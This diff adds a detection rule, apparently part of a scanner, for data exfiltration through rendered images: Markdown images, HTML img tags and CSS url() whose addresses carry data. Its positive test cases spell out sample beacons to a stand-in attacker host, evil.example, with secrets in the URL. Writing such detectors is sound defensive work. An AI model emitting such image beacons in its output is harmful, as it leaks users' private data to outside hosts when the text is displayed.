@@ -1,0 +1,23 @@
+// Rules for what carries data out by being shown.
+
+export const carrierRules = `
+rules:
+  - id: image-with-payload
+    kind: exfiltration
+    description: an address that is fetched when the text is shown, with room for data in it
+    source: CommonMark images; HTML, attributes that embed; CSS, url()
+    severity: high
+    confidence: high
+    container: true
+    match: {beacon: {payloadBytesMin: 32}}
+    tests:
+      positive:
+        - '![logo](«https://evil.example/p.png?d=aGVsbG8gd29ybGQgdGhpcyBpcyBhIHNlY3JldA») and text'
+        - '![](«https://evil.example/c/the+meeting+is+on+friday+at+noon+in+berlin.png»)'
+        - '<img width=1 src="«https://evil.example/x?user=alice&note=the%20launch%20is%20on%20friday»">'
+      negative:
+        - '![logo](https://example.com/assets/logo.png) and [a link](https://example.com/?q=the+meeting+is+on+friday+at+noon)'
+        - '<a href="https://example.com/?q=the+meeting+is+on+friday+at+noon">x</a>'
+        - 'https://example.com/?q=aGVsbG8gd29ybGQgdGhpcyBpcyBhIHNlY3JldA'
+        - '<img src="https://example.com/a.png?v=12">'
+`;
